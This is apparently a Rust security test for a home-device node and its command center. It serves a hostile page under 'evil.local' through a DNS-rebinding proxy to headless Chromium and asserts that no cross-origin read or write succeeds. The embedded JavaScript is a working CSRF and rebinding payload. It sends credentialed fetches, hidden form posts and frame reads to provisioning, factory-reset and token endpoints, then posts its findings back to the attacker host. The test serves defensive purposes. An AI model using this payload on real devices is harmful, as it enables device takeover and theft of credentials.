//! A hostile page in a real browser, on a machine whose user has logged in at the command center: it reads and changes nothing.
//!
//! The page is opened under a name of its own that resolves to the node or to the command center, as a name does whose owner
//! changes its address after the page was loaded. A proxy plays the part of the resolver: for that name it serves
//! the page, and passes everything else on unchanged.

use std::net::SocketAddr;
use std::path::Path;
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use serde::Deserialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::{Child, Command};
use tokio::sync::mpsc;
use tokio::time::timeout;

use crate::center::{ADMINISTRATOR_KEY, Center};
use crate::place::{PATIENCE, Place};

/// The name of the hostile page.
const EVIL: &str = "evil.local";

const NODE_READS: [&str; 5] = ["/", "/api/v1/info", "/api/v1/status", "/api/v1/scan-networks", "/openapi.json"];
const NODE_WRITES: [&str; 4] = ["/api/v1/provision", "/api/v1/provision/k2", "/api/v1/factory-reset", "/api/v1/session"];
const CENTER_READS: [&str; 5] = ["/", "/health", "/metrics", "/openapi.json", "/api/v0/admin/nodes"];
const CENTER_WRITES: [&str; 4] = ["/codes", "/codes/revoke", "/api/v0/provisioning/token", "/users"];

/// What the page tries at each origin: requests of scripts with and without preflight, forms, and frames that it looks into.
const PAGE: &str = r"<!doctype html><title>hostile</title><body><script>
const report = [];
async function attempt(what, act) {
  let seen;
  try { seen = await act(); } catch (error) { seen = { status: 0, text: '' }; }
  report.push({ what, status: seen.status, text: String(seen.text).slice(0, 300) });
}
async function read(response) { return { status: response.status, text: await response.text() }; }
function framed(prepare) {
  return new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.name = 'frame' + Math.random();
    let started = false;
    frame.onload = () => {
      if (!started) return;
      let text = '';
      try { text = frame.contentDocument.documentElement.outerHTML; } catch (error) { text = ''; }
      resolve({ status: 0, text });
    };
    document.body.append(frame);
    started = true;
    prepare(frame);
  });
}
function form(url, enctype) {
  return framed(frame => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: url, enctype, target: frame.name });
    for (const [name, value] of Object.entries(FIELDS)) {
      const input = document.createElement('input');
      Object.assign(input, { type: 'hidden', name, value });
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}
const FIELDS = { site: 'hostile', partner: 'default', days: '7', count: '1', id: 'x', household_id: 'home' };
async function run() {
  for (const { origin, reads, writes } of TARGETS) {
    for (const path of reads) {
      const url = origin + path;
      await attempt('get ' + url, async () => read(await fetch(url, { credentials: 'include' })));
      await attempt('get opaquely ' + url, async () => read(await fetch(url, { credentials: 'include', mode: 'no-cors' })));
      await attempt('frame ' + url, () => framed(frame => { frame.src = url; }));
    }
    for (const path of writes) {
      const url = origin + path;
      const json = { method: 'POST', credentials: 'include', body: BODY, headers: { 'content-type': 'application/json' } };
      await attempt('post ' + url, async () => read(await fetch(url, json)));
      const plain = { method: 'POST', credentials: 'include', body: BODY, mode: 'no-cors' };
      await attempt('post opaquely ' + url, async () => read(await fetch(url, plain)));
      await attempt('submit ' + url, () => form(url, 'application/x-www-form-urlencoded'));
      await attempt('submit plainly ' + url, () => form(url, 'text/plain'));
    }
  }
  await fetch('/hostile/report', { method: 'POST', body: JSON.stringify(report) });
}
run();
</script>";

/// Something that the page has tried.
#[derive(Debug, Deserialize)]
struct Attempt {
    what: String,
    /// Zero if the browser did not tell.
    status: u16,
    /// What the page could read.
    text: String,
}

/// The resolver, and the server of the hostile page.
struct Attacker {
    address: SocketAddr,
    reports: mpsc::UnboundedReceiver<String>,
}

impl Attacker {
    /// Serves a page, and sends a user who has logged in at `center` to `next`.
    async fn start(page: String, center: SocketAddr, next: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
        let address = listener.local_addr().expect("an address");
        let (report, reports) = mpsc::unbounded_channel();
        let proxy = Arc::new(Proxy { page, center, next, is_logged_in: AtomicBool::default(), report });
        tokio::spawn(async move {
            while let Ok((client, _)) = listener.accept().await {
                let proxy = proxy.clone();
                // A browser may close any connection at any time.
                tokio::spawn(async move { proxy.answer(client).await.ok() });
            }
        });
        Self { address, reports }
    }
}

struct Proxy {
    page: String,
    center: SocketAddr,
    next: String,
    is_logged_in: AtomicBool,
    report: mpsc::UnboundedSender<String>,
}

impl Proxy {
    async fn answer(&self, mut client: TcpStream) -> std::io::Result<()> {
        let (head, body) = read_request(&mut client).await?;
        let mut lines = head.lines();
        let mut words = lines.next().unwrap_or_default().split(' ');
        let (method, target) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
        let Some((authority, path)) = target.strip_prefix("http://").and_then(|target| target.split_once('/')) else {
            return client.write_all(b"HTTP/1.1 502 Bad Gateway\r\nconnection: close\r\ncontent-length: 0\r\n\r\n").await;
        };
        let is_evil = authority.starts_with(EVIL);
        if is_evil && path == "hostile" {
            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close";
            return client
                .write_all(format!("{head}\r\ncontent-length: {}\r\n\r\n{}", self.page.len(), self.page).as_bytes())
                .await;
        }
        if is_evil && path == "hostile/report" {
            drop(self.report.send(String::from_utf8_lossy(&body).into_owned()));
            return client.write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n").await;
        }
        let port = authority.rsplit_once(':').and_then(|(_, port)| port.parse().ok()).unwrap_or(80);
        let mut server = TcpStream::connect(("127.0.0.1", port)).await?;
        let mut request = format!("{method} /{path} HTTP/1.1\r\n");
        let is_hop = |line: &&str| {
            let line = line.to_ascii_lowercase();
            line.is_empty() || line.starts_with("connection:") || line.starts_with("proxy-")
        };
        for line in lines.filter(|line| !is_hop(line)) {
            request.push_str(line);
            request.push_str("\r\n");
        }
        request.push_str("connection: close\r\n\r\n");
        server.write_all(request.as_bytes()).await?;
        server.write_all(&body).await?;
        let mut answer = Vec::new();
        server.read_to_end(&mut answer).await?;
        // The user's next page, after the one of the command center.
        let is_log_in = port == self.center.port() && !is_evil && answer.starts_with(b"HTTP/1.1 200");
        if is_log_in && !self.is_logged_in.swap(true, Ordering::SeqCst) {
            let end = answer.windows(2).position(|bytes| bytes == b"\r\n").unwrap_or_default();
            answer.splice(end..end, format!("\r\nrefresh: 0; url={}", self.next).into_bytes());
        }
        client.write_all(&answer).await
    }
}

async fn read_request(client: &mut TcpStream) -> std::io::Result<(String, Vec<u8>)> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(client.read_u8().await?);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let length = head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length:")?.trim().parse().ok());
    let mut body = vec![0; length.unwrap_or_default()];
    client.read_exact(&mut body).await?;
    Ok((head, body))
}

/// Starts the browser; it is killed on drop.
fn browser(folder: &Path, proxy: SocketAddr, address: &str) -> Child {
    Command::new("chromium")
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-popup-blocking"])
        .arg(format!("--user-data-dir={}", folder.join("profile").display()))
        .arg(format!("--proxy-server=http://{proxy}"))
        // Without this, addresses of this machine are not sent to the proxy.
        .arg("--proxy-bypass-list=<-loopback>")
        .arg(address)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("it starts")
}

async fn is_browser_installed() -> bool {
    let asked = Command::new("chromium").arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().await;
    let is_there = asked.is_ok_and(|status| status.success());
    assert!(is_there || std::env::var_os("CI").is_none(), "CI needs Chromium (Debian: chromium)");
    if !is_there {
        eprintln!("SKIPPED: there is no Chromium (Debian: chromium), so no page was opened");
    }
    is_there
}

fn target(origin: &str, reads: &[&str], writes: &[&str]) -> serde_json::Value {
    serde_json::json!({ "origin": origin, "reads": reads, "writes": writes })
}

/// Opens the page under its own name at `rebound`, after the user has logged in at the command center; what it has tried.
async fn attack(node: SocketAddr, center: SocketAddr, rebound: SocketAddr) -> Vec<Attempt> {
    let mut targets = Vec::new();
    for host in [EVIL, "127.0.0.1", "localhost"] {
        targets.push(target(&format!("http://{host}:{}", node.port()), &NODE_READS, &NODE_WRITES));
        targets.push(target(&format!("http://{host}:{}", center.port()), &CENTER_READS, &CENTER_WRITES));
    }
    let body = serde_json::json!({
        "wifi_ssid": "HomeNetwork", "wifi_password": "hostile hostile", "room": "", "command_center_url": "http://127.0.0.1:9",
        "household_id": "home", "node_id": "n", "provisioning_token": "t", "kid": "k2-202601-abcdef",
        "k2": "A".repeat(43), "created_at": "2026-01-04T15:30:00Z",
    });
    let settings = format!("const TARGETS = {}; const BODY = {:?};", serde_json::json!(targets), body.to_string());
    let page = PAGE.replace("const report", &format!("{settings}\nconst report"));
    let next = format!("http://{EVIL}:{}/hostile", rebound.port());
    let mut attacker = Attacker::start(page, center, next).await;
    let folder = tempfile::tempdir().expect("a temporary folder");
    let address = format!("http://operator:{}@{center}/", ADMINISTRATOR_KEY.replace(' ', "%20"));
    let mut browser = browser(folder.path(), attacker.address, &address);
    let report = timeout(PATIENCE, attacker.reports.recv()).await.expect("the page reports in time").expect("a running proxy");
    browser.kill().await.expect("it runs");
    serde_json::from_str(&report).expect("JSON")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reads_and_changes_nothing() {
    if !is_browser_installed().await {
        return;
    }
    let (place, center) = (Place::new(), Center::start_at("https://center.example").await);
    let node = place.start().await;
    let before = node.get("/api/v1/status").await.json();
    for rebound in [node.address(), center.address()] {
        let attempts = attack(node.address(), center.address(), rebound).await;
        assert_eq!(attempts.len(), 3 * (10 * 3 + 8 * 4));
        for Attempt { what, status, text } in &attempts {
            // The browser shows it nothing, or the refusal of the name.
            let is_refusal =
                text.contains("This host name is not the device's.") || text.contains("This is not a name of the server.");
            assert!(text.is_empty() && matches!(status, 0 | 403) || is_refusal, "{what}: {status} {text}");
        }
        // Under its own name the page's requests do arrive: the names, not the browser, are what refuses them.
        let own = format!("get http://{EVIL}:{}/", rebound.port());
        assert!(attempts.iter().any(|attempt| attempt.what == own && attempt.status == 403), "{attempts:?}");
    }
    assert_eq!(node.get("/api/v1/status").await.json(), before);
    assert!(!place.file("k2.enc").exists() && !place.file("pending.enc").exists());
    assert!(center.is_untouched().await, "a code was created");
}
